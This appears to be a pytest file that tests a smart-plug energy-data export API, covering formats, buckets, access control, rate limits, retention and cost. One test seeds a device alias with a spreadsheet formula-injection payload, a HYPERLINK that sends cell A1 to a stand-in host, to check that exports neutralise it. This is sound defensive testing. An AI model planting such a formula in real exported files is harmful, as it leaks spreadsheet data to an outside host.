"""`/api/exports/...`: device data exports in CSV, JSON and Excel, ownership, the hourly limit and retention."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from collections.abc import AsyncIterator
from datetime import datetime, timedelta, timezone
from typing import Any
from uuid import UUID, uuid4
from zoneinfo import ZoneInfo

import httpx
import openpyxl
import pytest

from domain.commands import PollResult
from domain.energy import EnergyRules
from domain.exports import DataExport, DeviceLabel, ExportSpec, bucket_rows
from domain.meter import MeterDay
from domain.readings import DeviceSnapshot
from infra.bootstrap import Runtime
from tests.harness import background
from tests.kit import eventually, seed_device, seed_polls

T0 = datetime(2026, 3, 1, 0, 0, tzinfo=timezone.utc)
READINGS = 12  # every 15 minutes over three hours


def plug(total_wh: float, power_w: float) -> DeviceSnapshot:
    return DeviceSnapshot(
        alias="Fridge", model="HS110", device_type="plug", mac="AA:BB", firmware="1", is_on=True, has_emeter=True,
        power_w=power_w, voltage_v=230.0, current_a=0.5, total_wh=total_wh, rssi=-50,
    )


@pytest.fixture
async def device(runtime: Runtime) -> dict[str, Any]:
    """A device added at T0 with twelve readings, every 15 minutes, its counter rising 10 Wh each; projected."""
    device_id = await asyncio.to_thread(
        seed_device, runtime.app, "127.0.0.1:10999", plug(1000.0, 40.0), measured_at=T0, alias="Fridge"
    )
    results = [PollResult(device_id=device_id, measured_at=T0 + timedelta(minutes=15 * i),
                          snapshot=plug(1000.0 + 10 * i, 40.0 + i)) for i in range(1, READINGS)]  # fmt: skip
    for result in results:
        await asyncio.to_thread(seed_polls, runtime.app, [result])
    await asyncio.to_thread(runtime.engine.catch_up_all)
    return {"device_id": str(device_id), "device_ip": "127.0.0.1:10999"}


async def create(http: httpx.AsyncClient, device: dict[str, Any], **body: Any) -> httpx.Response:
    payload = {
        "export_type": "device_data",
        "devices": [device["device_ip"]],
        "date_range": {"start": T0.isoformat(), "end": (T0 + timedelta(hours=3)).isoformat()},
        **body,
    }
    return await http.post("/api/exports/create", json=payload)


async def finished(http: httpx.AsyncClient, runtime: Runtime, response: httpx.Response) -> dict[str, Any]:
    assert response.status_code == 201, response.text
    export_id = UUID(response.json()["export_id"])
    await runtime.data_exports().wait(export_id)

    async def done() -> dict[str, Any] | None:
        status = (await http.get(f"/api/exports/{export_id}")).json()
        if status["status"] in ("completed", "failed"):
            return dict(status)
        await runtime.data_exports().wait(export_id)
        runtime.saved()
        return None

    finished_export: dict[str, Any] = await eventually(done, every=0.05, what=f"export {export_id} finished")
    return finished_export


async def test_the_catalogue_lists_formats_metrics_and_devices(client: httpx.AsyncClient,
                                                               device: dict[str, Any]) -> None:
    formats = (await client.get("/api/exports/formats")).json()["formats"]
    assert [f["id"] for f in formats] == ["csv", "json", "excel"]
    assert formats[2]["extension"] == ".xlsx"
    metrics = {m["field"] for m in (await client.get("/api/exports/metrics")).json()["metrics"]}
    assert {"power_w", "energy_kwh"} <= metrics
    [listed] = (await client.get("/api/exports/devices")).json()["devices"]
    assert (listed["device_ip"], listed["device_name"]) == (device["device_ip"], "Fridge")
    assert listed["data_points"] >= READINGS


async def test_raw_readings_export_in_every_format_with_the_rows_of_the_store(
    client: httpx.AsyncClient, runtime: Runtime, device: dict[str, Any]
) -> None:
    fields = ["timestamp", "power_w", "energy_kwh"]
    expected = [[(T0 + timedelta(minutes=15 * i)).isoformat(), device["device_ip"], "Fridge", 40.0 + i,
                 round((1000.0 + 10 * i) / 1000, 6)] for i in range(READINGS)]  # fmt: skip
    async with background(runtime, poll=False):
        for fmt in ("csv", "json", "excel"):
            status = await finished(client, runtime, await create(client, device, format=fmt, fields=fields,
                                                                  options={"timezone": "UTC"}))
            assert (status["status"], status["progress"], status["record_count"]) == ("completed", 100, READINGS)
            download = await client.get(status["download_url"])
            assert download.status_code == 200, download.text
            if fmt == "csv":
                rows = list(csv.reader(io.StringIO(download.text)))
                assert rows[0] == ["timestamp", "device_ip", "device_name", "power_w", "energy_kwh"]
                got = [[r[0], r[1], r[2], float(r[3]), float(r[4])] for r in rows[1:]]
            elif fmt == "json":
                assert download.headers["content-type"].startswith("application/json")
                got = [[r["timestamp"], r["device_ip"], r["device_name"], r["power_w"], r["energy_kwh"]]
                       for r in json.loads(download.content)]
            else:
                book = openpyxl.load_workbook(io.BytesIO(download.content), read_only=True)
                sheet = book.worksheets[0]
                cells = [list(row) for row in sheet.iter_rows(values_only=True)]
                assert cells[0] == ["timestamp", "device_ip", "device_name", "power_w", "energy_kwh"]
                got = [[r[0], r[1], r[2], float(r[3]), float(r[4])] for r in cells[1:]]
            assert got == expected, fmt


FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Fridge")'


async def test_exported_text_is_never_a_formula_and_numbers_stay_numbers(
    client: httpx.AsyncClient, runtime: Runtime
) -> None:
    device_id = await asyncio.to_thread(
        seed_device, runtime.app, "127.0.0.1:10998", plug(1000.0, 40.0), measured_at=T0, alias=FORMULA
    )
    await asyncio.to_thread(seed_polls, runtime.app, [
        PollResult(device_id=device_id, measured_at=T0 + timedelta(minutes=15), snapshot=plug(1010.0, 41.0))
    ])  # fmt: skip
    await asyncio.to_thread(runtime.engine.catch_up_all)
    device = {"device_id": str(device_id), "device_ip": "127.0.0.1:10998"}
    fields = ["timestamp", "power_w", "energy_kwh"]
    async with background(runtime, poll=False):
        csv_status = await finished(client, runtime, await create(client, device, format="csv", fields=fields))
        xlsx_status = await finished(client, runtime, await create(client, device, format="excel", fields=fields))
        csv_file = (await client.get(csv_status["download_url"])).text
        xlsx_file = (await client.get(xlsx_status["download_url"])).content
    rows = list(csv.reader(io.StringIO(csv_file)))[1:]
    assert [r[2] for r in rows] == ["'" + FORMULA] * 2
    assert [(r[3], r[4]) for r in rows] == [("40.0", "1.0"), ("41.0", "1.01")]
    book = openpyxl.load_workbook(io.BytesIO(xlsx_file))
    cells = [list(row) for row in book.worksheets[0].iter_rows()][1:]
    assert [(r[2].value, r[2].data_type) for r in cells] == [(FORMULA, "s")] * 2
    assert [(r[3].value, r[3].data_type) for r in cells] == [(40.0, "n"), (41.0, "n")]


@pytest.mark.parametrize(("aggregation", "buckets"), [("hourly", 3), ("daily", 1)])
async def test_hourly_and_daily_buckets_hold_exactly_the_energy_used_within_them(
    client: httpx.AsyncClient, runtime: Runtime, device: dict[str, Any], aggregation: str, buckets: int
) -> None:
    async with background(runtime, poll=False):
        status = await finished(client, runtime, await create(
            client, device, format="json", aggregation=aggregation, fields=["timestamp", "energy_kwh", "power_w"],
            options={"timezone": "Europe/Berlin"},
        ))
        rows = json.loads((await client.get(status["download_url"])).content)
    assert len(rows) == buckets
    assert rows[0]["timestamp"] == "2026-03-01T01:00:00+01:00" if aggregation == "hourly" else True
    assert sum(r["energy_kwh"] for r in rows) == pytest.approx((READINGS - 1) * 10 / 1000)
    if aggregation == "hourly":
        assert [r["power_w"] for r in rows] == [41.5, 45.5, 49.5]


async def test_another_users_export_is_refused_and_an_admin_may_see_and_delete_it(
    client: httpx.AsyncClient, operator: httpx.AsyncClient, viewer: httpx.AsyncClient, runtime: Runtime,
    device: dict[str, Any],
) -> None:
    async with background(runtime, poll=False):
        mine = await finished(client, runtime, await create(client, device))
        theirs = await finished(operator, runtime, await create(operator, device, format="excel"))
        for path in (f"/api/exports/{mine['export_id']}", f"/api/exports/download/{mine['export_id']}"):
            refused = await operator.get(path)
            assert refused.status_code == 403, refused.text
            assert refused.json() == {
                "detail": "Access denied to export", "status_code": 403, "error_code": "ACCESS_DENIED",
                "message": "You don't have access to this export",
            }
        assert (await operator.delete(f"/api/exports/{mine['export_id']}")).status_code == 403
        listed = (await operator.get("/api/exports/history")).json()
        assert [e["export_id"] for e in listed["exports"]] == [theirs["export_id"]] and listed["total"] == 1
        everyone = (await client.get("/api/exports/history")).json()
        assert {e["export_id"] for e in everyone["exports"]} == {mine["export_id"], theirs["export_id"]}
        assert (await client.get(theirs["download_url"])).status_code == 200
        deleted = await client.delete(f"/api/exports/{theirs['export_id']}")
        assert deleted.status_code == 200 and deleted.json()["message"] == "Export deleted successfully"
        gone = await operator.get(f"/api/exports/download/{theirs['export_id']}")
        assert gone.status_code == 409 and gone.json()["error_code"] == "DATA_EXPORT_GONE"
        assert (await operator.get(f"/api/exports/{theirs['export_id']}")).json()["status"] == "deleted"
        assert (await viewer.get("/api/exports/formats")).json()["error_code"] == "INSUFFICIENT_PERMISSIONS"

    events = list(runtime.app.events.get(UUID(theirs["export_id"])))
    assert [type(e).__name__ for e in events] == ["Requested", "Completed", "Downloaded", "Deleted"]
    actors = [getattr(e, "actor") for e in events]
    assert actors[1] == "system:exports" and actors[0].startswith("user:") and actors[2] == actors[3] != actors[0]
    assert all(isinstance(e, DataExport.Event) for e in events)


async def test_the_eleventh_export_within_an_hour_is_refused_with_when_to_retry(
    client: httpx.AsyncClient, runtime: Runtime, device: dict[str, Any]
) -> None:
    async with background(runtime, poll=False):
        created = [await create(client, device) for _ in range(10)]
        assert [r.status_code for r in created] == [201] * 10
        refused = await create(client, device)
        for response in created:
            await runtime.data_exports().wait(UUID(response.json()["export_id"]))
        stats = (await client.get("/api/exports/stats")).json()
    assert refused.status_code == 429, refused.text
    body = refused.json()
    assert (body["detail"], body["error_code"], body["limit"]) == (
        "Export rate limit exceeded", "RATE_LIMIT_EXCEEDED", "10 per hour"
    )
    assert body["message"] == "Export rate limit exceeded. Please try again later."
    first = datetime.fromisoformat(created[0].json()["created_at"])
    assert datetime.fromisoformat(body["retry_after"]) == first + timedelta(hours=1)
    assert int(refused.headers["Retry-After"]) > 3000
    assert (stats["total_exports"], stats["user_exports_remaining"], stats["most_popular_format"]) == (10, 0, "csv")


async def test_files_past_their_retention_are_deleted_and_the_export_shows_expired(
    client: httpx.AsyncClient, runtime: Runtime, device: dict[str, Any]
) -> None:
    async with background(runtime, poll=False):
        status = await finished(client, runtime, await create(client, device))
        jobs = runtime.data_exports()
        [path] = list(jobs.directory.iterdir())
        assert await jobs.sweep(datetime.now(timezone.utc) + timedelta(days=6)) == 0 and path.exists()
        assert await jobs.sweep(datetime.now(timezone.utc) + timedelta(days=8)) == 1
        assert not path.exists()
        await runtime.data_exports().wait(UUID(status["export_id"]))

        async def expired() -> dict[str, Any] | None:
            now: dict[str, Any] = (await client.get(f"/api/exports/{status['export_id']}")).json()
            return now if now["status"] == "expired" else None

        now = await eventually(expired, every=0.05, what="the swept export shown expired")
    assert now["status"] == "expired" and now["download_url"] is None
    assert (await client.get(f"/api/exports/download/{status['export_id']}")).status_code == 409


async def test_preview_shows_the_first_rows_and_the_size_of_the_whole(
    client: httpx.AsyncClient, device: dict[str, Any]
) -> None:
    response = await client.get("/api/exports/preview", params={
        "export_type": "device_data", "devices": device["device_ip"], "limit": 2, "start": T0.isoformat(),
        "end": (T0 + timedelta(hours=3)).isoformat(), "timezone": "UTC",
    })
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["total_records"] == READINGS and len(body["preview"]) == 2
    assert body["preview"][0]["device_name"] == "Fridge" and body["preview"][0]["power_w"] == 40.0
    assert body["estimated_file_size"].endswith(" B") or body["estimated_file_size"].endswith("KB")


async def test_bad_export_requests_are_refused_and_store_nothing(
    client: httpx.AsyncClient, runtime: Runtime, device: dict[str, Any]
) -> None:
    before = runtime.app.recorder.max_notification_id()
    for body, status in (
        ({"date_range": {"start": T0.isoformat(), "end": T0.isoformat()}}, 400),
        ({"fields": ["timestamp", "password"]}, 400),
        ({"options": {"timezone": "Mars/Olympus"}}, 400),
        ({"format": "pdf"}, 422),
        ({"devices": ["10.255.255.1"]}, 404),
    ):
        response = await create(client, device, **body)
        assert response.status_code == status, (body, response.text)
    assert runtime.app.recorder.max_notification_id() == before
    assert (await client.get("/api/exports/not-an-id")).status_code == 404
    far = await client.get("/api/exports/preview", params={"devices": device["device_ip"],
                                                            "end": "0001-01-01T00:00:00Z"})
    assert far.status_code == 400 and far.json()["error_code"] == "INVALID_EXPORT"


def test_a_spring_forward_day_has_23_hourly_buckets_holding_the_whole_day() -> None:
    berlin = ZoneInfo("Europe/Berlin")
    start = datetime(2026, 3, 29, tzinfo=berlin).astimezone(timezone.utc)
    end = datetime(2026, 3, 30, tzinfo=berlin).astimezone(timezone.utc)
    device_id = uuid4()
    label = DeviceLabel(device_id=device_id, address="10.0.0.9:9999", name="Heater", mac="CC")
    readings = [
        MeterDay.ReadingRecorded(
            originator_id=uuid4(), originator_version=i + 2, timestamp=start, device_id=device_id,
            measured_at=start + timedelta(minutes=10 * i), is_on=True, power_w=60.0, voltage_v=None,
            current_a=None, total_wh=10.0 * i, outlets=[], actor="test",
        )
        for i in range(0, 23 * 6 + 1)
    ]
    for aggregation, count in (("hourly", 23), ("daily", 1)):
        spec = ExportSpec(devices=(device_id,), start=start, end=end, fields=("timestamp", "energy_kwh"),
                          aggregation=aggregation, timezone="Europe/Berlin", format="csv")  # type: ignore[arg-type]
        rows = list(bucket_rows(label, readings, spec, berlin, EnergyRules()))
        assert len(rows) == count, aggregation
        assert sum(r[3] for r in rows) == pytest.approx(23 * 60 / 1000)
        assert rows[0][0] == "2026-03-29T00:00:00+01:00"
    assert rows[0][3] == pytest.approx(1.38)


async def test_hourly_rows_carry_the_cost_of_their_energy_at_the_rate_in_force(
    client: httpx.AsyncClient, runtime: Runtime, device: dict[str, Any]
) -> None:
    """The seed's `cost` field: each bucket's energy priced by the energy read model."""
    async with background(runtime, poll=False):
        rate = await client.post("/api/rates", json={
            "rate_type": "simple", "currency": "EUR", "rate_structure": {"rate_per_kwh": 0.20},
            "effective_from": "2026-01-01T00:00:00Z",
        })  # fmt: skip
        assert rate.status_code == 201, rate.text
        assert "x-read-models-pending" not in rate.headers, "the rate was not projected when the answer came"
        status = await finished(client, runtime, await create(
            client, device, format="json", aggregation="hourly", fields=["timestamp", "energy_kwh", "cost"],
            options={"timezone": "UTC"},
        ))  # fmt: skip
        assert status["status"] == "completed", status
        rows = json.loads((await client.get(status["download_url"])).content)
    assert [round(r["energy_kwh"], 6) for r in rows] == [0.04, 0.04, 0.03]
    assert [r["cost"] for r in rows] == [pytest.approx(r["energy_kwh"] * 0.2, abs=1e-6) for r in rows]


async def test_an_export_may_cover_the_whole_history(
    client: httpx.AsyncClient, runtime: Runtime, device: dict[str, Any]
) -> None:
    """No cap on the range: the job reads only the days holding readings, up to now, one day at a time."""
    whole = {"start": "2000-01-01T00:00:00Z", "end": "2999-12-31T00:00:00Z"}
    async with background(runtime, poll=False):
        raw = await finished(client, runtime, await create(client, device, date_range=whole, format="csv"))
        daily = await finished(client, runtime, await create(
            client, device, date_range=whole, format="json", aggregation="daily", options={"timezone": "UTC"},
        ))  # fmt: skip
        rows = json.loads((await client.get(daily["download_url"])).content)
    assert (raw["status"], raw["record_count"]) == ("completed", READINGS), raw
    assert daily["status"] == "completed" and len(rows) == 1, daily
    assert set(rows[0]) == {"timestamp", "device_ip", "device_name", "power_w", "energy_kwh", "cost"}
    assert rows[0]["energy_kwh"] == pytest.approx(0.11)


async def test_the_preview_carries_cost_as_the_export_would(
    client: httpx.AsyncClient, runtime: Runtime, device: dict[str, Any]
) -> None:
    """The seed's preview rows: `cost` from the energy read model for hourly and daily rows, null for raw ones."""
    async with background(runtime, poll=False):
        rate = await client.post("/api/rates", json={
            "rate_type": "simple", "rate_structure": {"rate_per_kwh": 0.20}, "effective_from": "2026-01-01T00:00:00Z",
        })  # fmt: skip
    assert rate.status_code == 201, rate.text
    assert "x-read-models-pending" not in rate.headers, "the rate was not projected when the answer came"
    window = {"devices": device["device_ip"], "start": T0.isoformat(), "end": (T0 + timedelta(hours=3)).isoformat(),
              "timezone": "UTC"}  # fmt: skip
    hourly = (await client.get("/api/exports/preview", params={**window, "aggregation": "hourly"})).json()
    raw = (await client.get("/api/exports/preview", params=window)).json()
    assert [set(r) for r in hourly["preview"]] == [
        {"timestamp", "device_ip", "device_name", "power_w", "energy_kwh", "cost"}] * 3  # fmt: skip
    assert [r["cost"] for r in hourly["preview"]] == [pytest.approx(0.008), pytest.approx(0.008), pytest.approx(0.006)]
    assert {r["cost"] for r in raw["preview"]} == {None} and raw["total_records"] == READINGS
    long = await client.get("/api/exports/preview", params={**window, "start": "2024-01-01T00:00:00Z"})
    assert (long.status_code, long.json()["error_code"]) == (400, "INVALID_EXPORT"), long.text
    headless = await create(client, device, format="excel", options={"include_headers": False})
    assert (headless.status_code, headless.json()["error_code"]) == (400, "INVALID_EXPORT"), headless.text
    assert "include_headers" in headless.json()["detail"]
